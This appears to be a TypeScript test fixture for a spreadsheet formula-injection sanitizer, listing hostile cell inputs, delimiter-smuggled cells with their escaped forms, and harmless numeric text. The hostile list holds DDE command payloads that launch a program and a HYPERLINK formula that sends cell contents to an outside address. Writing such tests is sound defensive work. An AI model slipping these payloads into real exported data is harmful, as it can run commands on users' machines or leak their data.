/** Texts that a spreadsheet might run, each by another way in. */
export const HOSTILE: readonly string[] = [
  '=1+1',
  ' =1',
  '\u00a0=1',
  '＝1',
  '﹦1',
  '+1+cmd',
  '+1 2',
  '-1+cmd',
  '- 1+1',
  '-1,2',
  '-1.2.3',
  '-1–cmd',
  '−1+cmd',
  '－1+1',
  '@SUM(A1)',
  '＠SUM(A1)',
  '\t=1',
  '\tplain',
  '\r=1',
  '\n=1',
  '\u0000=1',
  '\u001f=1',
  '\u200b=1',
  '\u200e=1',
  '\u200f=1',
  '\u2066=1',
  '\ufeff=1',
  '\ufe0f=1',
  '\u2800=1',
  '\u3164=1',
  '=HYPERLINK("https://example.org/?"&A1,"a")',
  "=cmd|'/c calc'!A0",
  "@SUM(1+1)*cmd|'/c calc'!A0"
];

/** Texts that begin harmlessly, and hold another cell for a program that splits where the file does not. */
export const TORN: readonly (readonly [text: string, safe: string])[] = [
  ['a;=1+1', "a;'=1+1"],
  ['a; \u200b@SUM(A1)', "a;' \u200b@SUM(A1)"],
  ['a\n=1+1', "a\n'=1+1"],
  ['"a"\r\n-1+cmd', '"a"\r\n\'-1+cmd'],
  ['a\t+1+1;=2', "a\t'+1+1;'=2"]
];

/** Texts that stay exactly what they are: numbers of every kind, and words that only hold a sign. */
export const HARMLESS: readonly string[] = [
  '-5',
  '+26',
  '−3',
  '1,200',
  '-1,200.5',
  '3.25',
  '-0.5',
  '1e-7',
  '-1e-7',
  '-۱۲٫۵',
  '7–15',
  '-3–15',
  '−3–+15',
  '2018–2022',
  '-12 %',
  '<5',
  'Pakistan – India',
  'a = b',
  'who@example.org',
  'UNODC: Database; https://unodc.example/?a=1',
  'a; -5; b'
];
